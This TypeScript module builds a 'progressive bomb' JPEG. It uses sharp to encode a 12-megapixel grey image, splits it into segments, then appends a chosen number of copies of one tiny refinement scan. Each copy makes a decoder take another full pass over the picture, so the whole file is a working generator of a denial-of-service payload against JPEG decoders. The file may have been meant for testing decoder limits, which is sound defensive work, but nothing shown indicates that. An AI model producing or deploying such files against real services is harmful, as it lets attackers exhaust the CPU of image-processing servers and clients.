import sharp from 'sharp';

interface Segment {
  readonly marker: number;
  readonly bytes: Buffer;
}

/** Splits a JPEG into its segments; a scan includes its picture data. */
function segmentsOf(file: Buffer): Segment[] {
  const segments: Segment[] = [];
  for (let at = 2; at + 3 < file.length; ) {
    const marker = file[at + 1] ?? 0;
    let end = at + 2 + file.readUInt16BE(at + 2);
    while (marker === 0xda && !(file[end] === 0xff && file[end + 1] !== 0)) end += 1;
    segments.push({ marker, bytes: file.subarray(at, end) });
    at = end;
  }
  return segments;
}

/** True for the first scan of some coefficients other than the mean; its data says that all of them are zero. */
const isFirstOfDetails = ({ marker, bytes }: Segment) => {
  const head = bytes.subarray(0, 2 + bytes.readUInt16BE(2));
  return marker === 0xda && (head.at(-3) ?? 0) > 0 && (head.at(-1) ?? 0) >> 4 === 0;
};

/** The same scan at full precision, which may follow itself any number of times. */
function repeatable({ bytes }: Segment): Buffer {
  const scan = Buffer.from(bytes);
  scan[1 + scan.readUInt16BE(2)] = 0;
  return scan;
}

/** A valid progressive JPEG of twelve megapixels that repeats a scan of few bytes: each costs a pass over the picture. */
export async function progressiveBomb(scans: number): Promise<Uint8Array> {
  const grey = sharp({ create: { width: 4096, height: 3072, channels: 3, background: '#808080' } });
  const segments = segmentsOf(await grey.jpeg({ progressive: true, quality: 30 }).toBuffer());
  const at = segments.findIndex(isFirstOfDetails);
  const [table, scan] = segments.slice(at - 1);
  if (!table || !scan) throw new Error('no scan found');
  const whole = [Buffer.from([0xff, 0xd8]), ...segments.map(({ bytes }) => bytes), table.bytes];
  const repeated = Array<Buffer>(scans).fill(repeatable(scan));
  return new Uint8Array(Buffer.concat([...whole, ...repeated, Buffer.from([0xff, 0xd9])]));
}
